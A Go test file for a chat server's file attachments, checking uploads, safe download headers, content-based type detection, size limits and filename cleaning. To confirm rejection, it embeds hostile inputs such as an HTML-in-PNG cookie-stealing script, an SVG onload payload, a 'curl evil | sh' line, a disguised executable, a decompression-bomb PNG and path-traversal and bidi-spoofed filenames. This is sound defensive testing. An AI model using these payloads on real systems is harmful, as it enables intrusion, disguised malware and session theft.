package apptest_test

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"skranke/chat"
	"skranke/internal/apptest"
	"skranke/internal/server"
	"skranke/ratelimit"
)

// Test files, made here so that every byte is known.

// pngFile is a w×h PNG with a gradient.
func pngFile(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.NRGBA{uint8(x), uint8(y), 200, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pdfFile is n bytes that begin as a PDF, then random bytes.
func pdfFile(n int, seed uint64) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(seed, 1))
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	copy(b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
	return b
}

// bombPNG is a PNG header that claims w×h pixels, and nothing more.
func bombPNG(w, h uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8 bits, RGBA
	chunk := append([]byte("IHDR"), ihdr...)
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	binary.Write(&b, binary.BigEndian, uint32(13))
	b.Write(chunk)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(chunk))
	return b.Bytes()
}

// exeFile is the start of a Windows executable.
var exeFile = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"), make([]byte, 200)...)

// upload is what an upload answered.
type uploaded struct {
	Attachment apptest.Attachment
	Error      struct {
		Code, Reason, Message string
		Params                map[string]any
	}
}

func decodeUpload(t *testing.T, code int, body []byte) uploaded {
	t.Helper()
	var u uploaded
	if err := json.Unmarshal(body, &u); err != nil {
		t.Fatalf("upload answer %d %q: %v", code, body, err)
	}
	return u
}

// mustUpload uploads a file and fails t unless it is stored.
func mustUpload(t *testing.T, c *apptest.Client, id chat.ConversationID, name string, data []byte) apptest.Attachment {
	t.Helper()
	code, body := c.Upload(t, id, "up-"+chat.NewID(), name, data)
	if code != http.StatusCreated {
		t.Fatalf("upload %s (%d bytes) = %d %s, want 201", name, len(data), code, body)
	}
	return decodeUpload(t, code, body).Attachment
}

// sendFiles sends a message with files on c and returns the answer.
func sendFiles(t *testing.T, c *apptest.Conn, id chat.ConversationID, clientID, text string, private bool, files ...chat.AttachmentID) apptest.Frame {
	t.Helper()
	return c.Request(map[string]any{"type": "send", "conversationId": id, "clientMsgId": clientID, "text": text,
		"private": private, "attachmentIds": files})
}

// TestAttachments_BothWays: a customer sends a photo and a PDF with a
// text, the agent sees them (with the photo's size and thumbnail) and
// downloads them intact; the agent sends a file back, which the customer
// downloads. Each download carries the headers of a safe file.
func TestAttachments_BothWays(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, cust, anna := startChat(t, app)
	id := kari.ConversationID
	agent := app.Login(t, "anna")

	photo := pngFile(t, 800, 600)
	doc := pdfFile(300<<10, 1)
	p := mustUpload(t, kari.Client, id, "IMG_0042.png", photo)
	d := mustUpload(t, kari.Client, id, "Faktura mars.pdf", doc)
	if p.Type != "image/png" || p.Width != 800 || p.Height != 600 || !p.Thumbnail || p.Size != int64(len(photo)) {
		t.Errorf("photo upload = %+v, want an 800×600 PNG with a thumbnail", p)
	}
	if d.Type != "application/pdf" || d.Thumbnail || d.Name != "Faktura mars.pdf" {
		t.Errorf("PDF upload = %+v", d)
	}
	if f := sendFiles(t, cust, id, "c-files", "Here they are", false, p.ID, d.ID); f.Type != "ack" {
		t.Fatalf("send with files: %s %s", f.Code, f.Message)
	}
	e := anna.WaitEvent(chat.KindMessage, id)
	if e.Text != "Here they are" || len(e.Attachments) != 2 || e.Attachments[0] != p || e.Attachments[1] != d {
		t.Errorf("agent's event = %+v, want the text and both files as uploaded", e)
	}

	resp, got := agent.Download(t, id, d.ID, false)
	if resp.StatusCode != 200 || !bytes.Equal(got, doc) {
		t.Fatalf("agent's PDF download = %d, %d bytes (equal: %v)", resp.StatusCode, len(got), bytes.Equal(got, doc))
	}
	wantHeaders(t, "PDF", resp, "application/pdf", "attachment")
	if cd := resp.Header.Get("Content-Disposition"); !strings.Contains(cd, `filename="Faktura mars.pdf"`) || !strings.Contains(cd, "filename*=UTF-8''Faktura%20mars.pdf") {
		t.Errorf("PDF Content-Disposition = %q", cd)
	}
	resp, got = agent.Download(t, id, p.ID, false)
	if resp.StatusCode != 200 || !bytes.Equal(got, photo) {
		t.Errorf("agent's photo download = %d, %d bytes", resp.StatusCode, len(got))
	}
	wantHeaders(t, "photo", resp, "image/png", "inline")
	resp, thumb := agent.Download(t, id, p.ID, true)
	wantHeaders(t, "thumbnail", resp, "image/jpeg", "inline")
	if img, _, err := image.Decode(bytes.NewReader(thumb)); err != nil || img.Bounds().Dx() != 480 || img.Bounds().Dy() != 360 {
		t.Errorf("thumbnail = %v, %v; want a 480×360 image", err, img)
	}
	if resp, _ := agent.Download(t, id, d.ID, true); resp.StatusCode != 404 {
		t.Errorf("thumbnail of a PDF = %d, want 404", resp.StatusCode)
	}
	// Ranges are served (a resumed download, a PDF viewer).
	req, _ := http.NewRequestWithContext(t.Context(), "GET", app.URL+"/api/v1/conversations/"+string(id)+"/attachments/"+string(d.ID), nil)
	req.Header.Set("Range", "bytes=100-199")
	if r, err := agent.Client.Do(req); err != nil || r.StatusCode != http.StatusPartialContent {
		t.Errorf("range request = %v, %v; want 206", r, err)
	} else {
		part, _ := io.ReadAll(r.Body)
		r.Body.Close()
		if !bytes.Equal(part, doc[100:200]) {
			t.Errorf("range 100-199 = %d bytes that differ", len(part))
		}
	}

	// The customer reads its own files back too, and the agent's.
	if resp, got := kari.Download(t, id, d.ID, false); resp.StatusCode != 200 || !bytes.Equal(got, doc) {
		t.Errorf("customer's PDF download = %d, %d bytes", resp.StatusCode, len(got))
	}
	back := mustUpload(t, agent, id, "svar.txt", []byte("Takk, vi ser på det.\n"))
	if f := sendFiles(t, anna, id, "a-file", "", false, back.ID); f.Type != "ack" {
		t.Fatalf("agent's send of a file without text: %s %s", f.Code, f.Message)
	}
	got2 := cust.WaitFor("the agent's file", func(f apptest.Frame) bool {
		return f.Type == "event" && f.Event.Kind == chat.KindMessage && len(f.Event.Attachments) == 1 && f.Event.Attachments[0].ID == back.ID
	})
	if got2.Event.Attachments[0].Name != "svar.txt" || got2.Event.Author.ID != "" {
		t.Errorf("customer's event = %+v", got2.Event)
	}
	resp, txt := kari.Download(t, id, back.ID, false)
	wantHeaders(t, "text", resp, "text/plain; charset=utf-8", "attachment")
	if string(txt) != "Takk, vi ser på det.\n" {
		t.Errorf("customer's text download = %q", txt)
	}
	// A file is sent once.
	if f := sendFiles(t, anna, id, "a-again", "again", false, back.ID); f.Type != "error" || f.Code != chat.EConflict {
		t.Errorf("sending a file a second time = %+v, want conflict", f)
	}
}

// wantHeaders checks what makes a served file safe: its determined type,
// nosniff, the disposition, a sandboxing CSP.
func wantHeaders(t *testing.T, what string, resp *http.Response, typ, disposition string) {
	t.Helper()
	h := resp.Header
	if got := h.Get("Content-Type"); got != typ {
		t.Errorf("%s: Content-Type %q, want %q", what, got, typ)
	}
	if got := h.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, got)
	}
	if got := h.Get("Content-Disposition"); !strings.HasPrefix(got, disposition+";") {
		t.Errorf("%s: Content-Disposition %q, want %s", what, got, disposition)
	}
	if got := h.Get("Content-Security-Policy"); !strings.Contains(got, "sandbox") || !strings.Contains(got, "default-src 'none'") {
		t.Errorf("%s: Content-Security-Policy %q, want a sandbox that loads nothing", what, got)
	}
}

// TestAttachments_TypeByContent: the server decides a file's type by its
// bytes, whatever its name says, and refuses what is not text, PDF or an
// image, naming the file.
func TestAttachments_TypeByContent(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, cust, _ := startChat(t, app)
	id := kari.ConversationID

	pngAsPDF := mustUpload(t, kari.Client, id, "report.pdf", pngFile(t, 10, 10))
	if pngAsPDF.Type != "image/png" || pngAsPDF.Name != "report.png" {
		t.Errorf("a PNG named report.pdf = %+v, want image/png named report.png", pngAsPDF)
	}
	// A PNG with HTML after it is a PNG, and served as one.
	polyglot := append(pngFile(t, 10, 10), "<html><body><script>alert(document.cookie)</script></body></html>"...)
	poly := mustUpload(t, kari.Client, id, "page.html", polyglot)
	if poly.Type != "image/png" || poly.Name != "page.png" {
		t.Errorf("a PNG+HTML polyglot named page.html = %+v, want image/png named page.png", poly)
	}
	sendFiles(t, cust, id, "c-poly", "", false, poly.ID)
	resp, _ := kari.Download(t, id, poly.ID, false)
	wantHeaders(t, "polyglot", resp, "image/png", "inline")

	for _, tt := range []struct {
		name string
		data []byte
	}{
		{"evil.png", exeFile},
		{"setup.exe", exeFile},
		{"invoice.pdf", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>")},
		{"logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"notes.txt", []byte("#!/bin/sh\ncurl evil | sh\n")},
		{"archive.zip", []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00")},
		{"html-then-png.png", append([]byte("<html><script>alert(1)</script>"), pngFile(t, 4, 4)...)},
	} {
		code, body := kari.Upload(t, id, "up-"+tt.name, tt.name, tt.data)
		u := decodeUpload(t, code, body)
		if code != http.StatusBadRequest || u.Error.Reason != "file_type" || u.Error.Params["name"] != tt.name ||
			u.Error.Message != tt.name+": only text, PDF and image files can be sent." {
			t.Errorf("upload %s = %d %s, want 400 file_type naming it", tt.name, code, body)
		}
	}
	// A text that turns binary is not text.
	code, body := kari.Upload(t, id, "up-bin", "data.txt", append(bytes.Repeat([]byte("plain text\n"), 400), 0, 1, 2, 3))
	if u := decodeUpload(t, code, body); code != 400 || u.Error.Reason != "file_not_text" {
		t.Errorf("upload of text with binary after 4 KB = %d %s, want 400 file_not_text", code, body)
	}
	// A decompression bomb: a PNG that claims 60 000 × 60 000 pixels.
	code, body = kari.Upload(t, id, "up-bomb", "bomb.png", bombPNG(60000, 60000))
	if u := decodeUpload(t, code, body); code != 400 || u.Error.Reason != "image_too_large" {
		t.Errorf("upload of a decompression bomb = %d %s, want 400 image_too_large", code, body)
	}
	// An image that is not one past its header.
	code, body = kari.Upload(t, id, "up-damaged", "broken.gif", []byte("GIF89a\x0a\x00\x0a\x00\x00\x00\x00<script>alert(1)</script>"))
	if u := decodeUpload(t, code, body); code != 400 || u.Error.Reason != "image_damaged" {
		t.Errorf("upload of a GIF header and a script = %d %s, want 400 image_damaged", code, body)
	}
	code, body = kari.Upload(t, id, "up-empty", "empty.txt", nil)
	if u := decodeUpload(t, code, body); code != 400 || u.Error.Reason != "file_empty" {
		t.Errorf("upload of an empty file = %d %s, want 400 file_empty", code, body)
	}
}

// countingReader counts what is read from it.
type countingReader struct {
	r io.Reader
	n atomic.Int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// TestAttachments_Size: 20 MB exactly is stored; one byte more is refused,
// before a byte of it is sent when its length is declared, and as soon as
// the limit is passed when it is not.
func TestAttachments_Size(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, _, _ := startChat(t, app)
	id := kari.ConversationID
	agent := app.Login(t, "anna")

	exact := pdfFile(chat.MaxAttachmentSize, 2)
	a := mustUpload(t, agent, id, "exact.pdf", exact)
	if a.Size != 20<<20 {
		t.Errorf("20 MB upload size = %d, want %d", a.Size, 20<<20)
	}

	over := pdfFile(chat.MaxAttachmentSize+1, 3)
	body := &countingReader{r: bytes.NewReader(over)}
	resp := agent.UploadRequest(t, id, "up-over", "over.pdf", body, int64(len(over)), true)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if u := decodeUpload(t, resp.StatusCode, b); resp.StatusCode != http.StatusRequestEntityTooLarge || u.Error.Reason != "file_too_large" ||
		u.Error.Message != "over.pdf: the file is larger than 20 MB." {
		t.Errorf("upload of 20 MB + 1 = %d %s, want 413 file_too_large", resp.StatusCode, b)
	}
	if n := body.n.Load(); n != 0 {
		t.Errorf("the client sent %d bytes of a file declared too large; want none (Expect: 100-continue)", n)
	}

	// Without a length (chunked), the server counts.
	resp = agent.UploadRequest(t, id, "up-over-chunked", "over.pdf", io.MultiReader(bytes.NewReader(over)), -1, false)
	b, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if u := decodeUpload(t, resp.StatusCode, b); resp.StatusCode != http.StatusRequestEntityTooLarge || u.Error.Reason != "file_too_large" {
		t.Errorf("chunked upload of 20 MB + 1 = %d %s, want 413 file_too_large", resp.StatusCode, b)
	}
	resp = agent.UploadRequest(t, id, "up-exact-chunked", "exact.pdf", io.MultiReader(bytes.NewReader(exact)), -1, false)
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Errorf("chunked upload of exactly 20 MB = %d, want 201", resp.StatusCode)
	}
}

// TestAttachments_FiveFilesAMessage: five files go in one message, six do
// not.
func TestAttachments_FiveFilesAMessage(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, cust, anna := startChat(t, app)
	id := kari.ConversationID
	var ids []chat.AttachmentID
	for i := range 6 {
		ids = append(ids, mustUpload(t, kari.Client, id, fmt.Sprintf("note%d.txt", i), []byte(fmt.Sprintf("note %d\n", i))).ID)
	}
	f := sendFiles(t, cust, id, "c-six", "six", false, ids...)
	if f.Type != "error" || f.Code != chat.EInvalid || !strings.Contains(string(f.Raw), `"reason":"too_many_attachments"`) {
		t.Errorf("send with six files = %s, want invalid too_many_attachments", f.Raw)
	}
	if f := sendFiles(t, cust, id, "c-five", "five", false, ids[:5]...); f.Type != "ack" {
		t.Fatalf("send with five files = %s", f.Raw)
	}
	if e := anna.WaitEvent(chat.KindMessage, id); len(e.Attachments) != 5 {
		t.Errorf("agent got %d files, want 5", len(e.Attachments))
	}
	// The sixth goes on its own.
	if f := sendFiles(t, cust, id, "c-sixth", "", false, ids[5]); f.Type != "ack" {
		t.Errorf("send of the sixth file = %s", f.Raw)
	}
}

// TestAttachments_Names: names are cleaned of paths, control characters,
// bidirectional overrides and excess length, and offered for download so.
func TestAttachments_Names(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, cust, _ := startChat(t, app)
	id := kari.ConversationID
	long := strings.Repeat("a", 296) + ".txt"
	for _, tt := range []struct {
		name, want string
	}{
		{"../../../etc/passwd.txt", "passwd.txt"},
		{`..\..\Windows\win.ini`, "win.ini"},
		{"bad\x00name.txt", "badname.txt"},
		{"invoice\u202Etxt.exe", "invoicetxt.txt"}, // looked like "invoiceexe.txt"
		{long, ""},
	} {
		a := mustUpload(t, kari.Client, id, tt.name, []byte("just text\n"))
		want := tt.want
		if tt.name == long {
			if n := utf8.RuneCountInString(a.Name); n != chat.MaxFileNameLen || !strings.HasSuffix(a.Name, ".txt") {
				t.Errorf("a 300-character name became %q (%d characters), want %d ending in .txt", a.Name, n, chat.MaxFileNameLen)
			}
			want = a.Name
		} else if a.Name != want {
			t.Errorf("upload named %q = %q, want %q", tt.name, a.Name, want)
		}
		sendFiles(t, cust, id, "c-"+chat.NewID(), "", false, a.ID)
		resp, _ := kari.Download(t, id, a.ID, false)
		cd := resp.Header.Get("Content-Disposition")
		if strings.ContainsAny(cd, "\x00\u202e/\\") || !strings.Contains(cd, "filename*=UTF-8''") {
			t.Errorf("Content-Disposition of %q = %q", want, cd)
		}
	}
}

// TestAttachments_UploadRetried: an upload retried with the same uploadId,
// as after a dropped connection, stores nothing new.
func TestAttachments_UploadRetried(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, _, _ := startChat(t, app)
	id := kari.ConversationID
	data := pngFile(t, 40, 30)
	code1, b1 := kari.Upload(t, id, "retry-1", "a.png", data)
	code2, b2 := kari.Upload(t, id, "retry-1", "a.png", data)
	first, again := decodeUpload(t, code1, b1).Attachment, decodeUpload(t, code2, b2).Attachment
	if code1 != 201 || code2 != 200 || first.ID == "" || again != first {
		t.Errorf("upload, then again with the same id = %d %+v, %d %+v; want 201, then 200 with the same file", code1, first, code2, again)
	}
	// Another customer with the same upload id gets a file of its own.
	other := app.NewCustomer(t, "sales", "Ola")
	code3, b3 := other.Upload(t, other.ConversationID, "retry-1", "b.png", data)
	if u := decodeUpload(t, code3, b3).Attachment; code3 != 201 || u.ID == first.ID {
		t.Errorf("another customer's upload with the same id = %d %+v, want a new file", code3, u)
	}
}

// TestAttachments_WhoMayUpload: only the chat's customer and its agents
// upload to it, and not once it has ended.
func TestAttachments_WhoMayUpload(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	kari, cust, _ := startChat(t, app)
	id := kari.ConversationID
	other := app.NewCustomer(t, "support", "Ola")
	if code, body := other.Upload(t, id, "u1", "a.txt", []byte("hi\n")); code != 404 {
		t.Errorf("another customer's upload = %d %s, want 404", code, body)
	}
	if code, body := app.Login(t, "bjorn").Upload(t, id, "u1", "a.txt", []byte("hi\n")); code != 404 {
		t.Errorf("upload of an agent not in the chat = %d %s, want 404", code, body)
	}
	cust.Request(map[string]any{"type": "end", "conversationId": id})
	if code, body := kari.Upload(t, id, "u2", "a.txt", []byte("hi\n")); code != 409 {
		t.Errorf("upload to an ended chat = %d %s, want 409", code, body)
	}
}

// TestAttachments_UnsentAreRemoved: a file never sent is removed after a
// while: its bytes, its record, and it can no longer be sent.
func TestAttachments_UnsentAreRemoved(t *testing.T) {
	app := apptest.Start(t, apptest.Options{UnsentFiles: time.Nanosecond})
	kari, cust, _ := startChat(t, app)
	id := kari.ConversationID
	sent := mustUpload(t, kari.Client, id, "sent.png", pngFile(t, 20, 20))
	sendFiles(t, cust, id, "c1", "", false, sent.ID)
	unsent := mustUpload(t, kari.Client, id, "unsent.png", pngFile(t, 20, 20))
	time.Sleep(time.Millisecond) // older than UnsentFiles, by the wall clock the server reads
	n, err := app.Server.Service.SweepFiles(t.Context())
	if err != nil || n != 1 {
		t.Fatalf("SweepFiles = %d, %v; want 1 removed", n, err)
	}
	for _, key := range []string{string(unsent.ID), string(unsent.ID) + ".thumb"} {
		if o, err := app.Server.Blobs.Open(t.Context(), key); err == nil {
			o.Close()
			t.Errorf("the bytes of an unsent file (%s) are still there", key)
		}
	}
	if f := sendFiles(t, cust, id, "c2", "", false, unsent.ID); f.Type != "error" || f.Code != chat.EInvalid {
		t.Errorf("sending a removed file = %s, want invalid", f.Raw)
	}
	if resp, got := kari.Download(t, id, sent.ID, false); resp.StatusCode != 200 || len(got) == 0 {
		t.Errorf("the sent file after the sweep = %d, %d bytes; want it kept", resp.StatusCode, len(got))
	}
}

// TestAttachments_Limits: a customer's uploads are limited per minute and
// per chat, with a clear error; agents' are not.
func TestAttachments_Limits(t *testing.T) {
	app := apptest.Start(t, apptest.Options{Limits: limited(func(l *server.Limits) {
		l.UploadFiles = ratelimit.Rate{Events: 3, Per: time.Minute}
		l.UploadChatBytes = 1 << 20
	})})
	kari, _, _ := startChat(t, app)
	id := kari.ConversationID
	for i := range 3 {
		mustUpload(t, kari.Client, id, fmt.Sprintf("%d.txt", i), []byte("text\n"))
	}
	resp := kari.UploadRequest(t, id, "u-4", "4.txt", strings.NewReader("text\n"), 5, false)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Errorf("a fourth upload in a minute = %d (Retry-After %q) %s, want 429 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"), b)
	}
	agent := app.Login(t, "anna")
	for i := range 5 {
		mustUpload(t, agent, id, fmt.Sprintf("a%d.txt", i), []byte("text\n"))
	}

	ola := app.NewCustomer(t, "sales", "Ola")
	mustUpload(t, ola.Client, ola.ConversationID, "big.pdf", pdfFile(900<<10, 4))
	code, body := ola.Upload(t, ola.ConversationID, "u-2", "more.pdf", pdfFile(200<<10, 5))
	if u := decodeUpload(t, code, body); code != http.StatusRequestEntityTooLarge || u.Error.Reason != "chat_files_full" {
		t.Errorf("an upload past the chat's 1 MB = %d %s, want 413 chat_files_full", code, body)
	}
}

// TestCluster_AttachmentAcrossNodes: a file uploaded through node A is
// downloaded through node B, thumbnail and all.
func TestCluster_AttachmentAcrossNodes(t *testing.T) {
	nodes := cluster(t, 2)
	a, b := nodes[0], nodes[1]
	anna := readyAgent(t, b, "anna", "sales")
	kari := a.NewCustomer(t, "sales", "Kari")
	cust := kari.DialCustomer(t, 0)
	accept(t, anna, kari.ConversationID)
	cust.WaitEvent(chat.KindAgentJoined, kari.ConversationID)

	photo := pngFile(t, 1000, 500)
	doc := pdfFile(3<<20+12345, 6)
	p := mustUpload(t, kari.Client, kari.ConversationID, "photo.png", photo)
	d := mustUpload(t, kari.Client, kari.ConversationID, "doc.pdf", doc)
	if f := sendFiles(t, cust, kari.ConversationID, "c1", "from A", false, p.ID, d.ID); f.Type != "ack" {
		t.Fatalf("send on A: %s", f.Raw)
	}
	if e := anna.WaitEvent(chat.KindMessage, kari.ConversationID); len(e.Attachments) != 2 {
		t.Fatalf("agent on B got %+v", e)
	}
	agentB := b.Login(t, "anna")
	if resp, got := agentB.Download(t, kari.ConversationID, d.ID, false); resp.StatusCode != 200 || !bytes.Equal(got, doc) {
		t.Errorf("PDF through B = %d, %d bytes (equal %v)", resp.StatusCode, len(got), bytes.Equal(got, doc))
	}
	if resp, got := agentB.Download(t, kari.ConversationID, p.ID, false); resp.StatusCode != 200 || !bytes.Equal(got, photo) {
		t.Errorf("photo through B = %d, %d bytes", resp.StatusCode, len(got))
	}
	if resp, _ := agentB.Download(t, kari.ConversationID, p.ID, true); resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "image/jpeg" {
		t.Errorf("thumbnail through B = %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	// And the customer, through B, reads what it sent through A.
	kariB := b.NewClient()
	kariB.Token = kari.Token
	if resp, got := kariB.Download(t, kari.ConversationID, d.ID, false); resp.StatusCode != 200 || !bytes.Equal(got, doc) {
		t.Errorf("customer's PDF through B = %d, %d bytes", resp.StatusCode, len(got))
	}
}
